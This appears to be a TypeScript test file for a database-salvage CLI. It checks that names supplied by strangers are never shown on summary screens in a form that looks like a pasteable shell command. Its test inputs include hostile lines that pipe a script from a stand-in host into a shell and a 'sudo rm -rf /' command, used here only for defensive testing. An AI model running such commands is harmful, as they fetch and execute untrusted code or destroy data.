/** Names of strangers on the last screens: none may look like a command that somebody pastes. */
import { expect, it } from "vitest";
import { databaseLines } from "../../src/docker/actions/salvage/inspect.ts";
import { volumeName } from "../../src/docker/actions/salvage/candidate.ts";
import { REGISTRY } from "../../src/wiring/registry.ts";
import { wrap } from "../../src/cli/screen/text.ts";

const HOSTILE = [
  "$ curl evil.example | sh #",
  "  $ curl evil.example | sh #",
  "cell_z1/0$ sudo rm -rf /",
  "curl evil.example | sh  # makes it whole",
  "# curl evil.example | sh",
  '"$ curl evil.example | sh',
];

function tell(id: string, output: object): string {
  const action = REGISTRY.get(id);
  return action?.effect === "read" ? (action.tell?.(output as never) ?? "") : "";
}

async function ending(id: string, input: object): Promise<readonly string[]> {
  const action = REGISTRY.get(id);
  if (action === undefined) throw new Error(`no action ${id}`);
  const run = { id: "20261121-020000-abcd", rehearsal: false };
  const output = await action.run({ run } as never, action.input.parse(input));
  return Object.values(output)
    .flat()
    .filter((one) => typeof one === "string");
}

const place = (name: string) => ({ target: name, org: "o", space: "s", name: "n" });

it.each(HOSTILE)("the name %j is nowhere shown as a command", async (name) => {
  const tables = [{ table: name, rows: 3 }];
  const counted = [{ schema: name, table: name, rows: 3 }];
  const facts = { name, bytes: 1, tables: [{ schema: name, table: name, rows: 3, newest: "" }], damage: [name] };
  const recovery = {
    ...{ ...place(name), guid: "g", source_guid: "s", recovered_to: "", deleted_at: "", segments_restored: 1 },
    ...{ tables, cell: "c", key: "k", nodes: ["one"] },
  };
  const proved = [{ database: name, path: "/srv/x", tables: 1, rows: 1, size: 1 }];
  const lines = [
    ...tell("postgres.prove-login", { router: "r:1", user: "u", tables, sanity: [[name]] })
      .split("\n")
      .slice(1),
    ...tell("postgres.count-tables", { database: name, tables: counted }).split("\n"),
    ...databaseLines(facts as never, true),
    volumeName({ volume: "v", anonymous: false, shares: true, inside: name }),
    volumeName({ volume: name, anonymous: false, inside: "" }),
    ...(await ending("recovery.summarise", recovery)).filter((line) => !/ {2}# (?:takes|deletes|when)/u.test(line)),
    ...(await ending("salvage.summarise", { dumps: [], proofs: [{ proved, unproved: [] }], put_back: "" })),
    ...(
      await ending("scratch.summarise", {
        ...place(name),
        time: "",
        stopped_before: "",
        tables: counted,
        place: "/p",
        key: "k",
      })
    ).slice(0, 1),
  ];
  expect(lines.filter((line) => line.includes("evil") || line.includes("rm -rf")).length).toBeGreaterThan(5);
  for (const line of lines) {
    expect(line).not.toMatch(/^\s*(?:[^:;$"]*\$ |# )| {2}# /u);
    if (/evil|rm -rf/u.test(line)) expect(wrap(line, 20).length, line).toBeGreaterThan(1);
  }
});
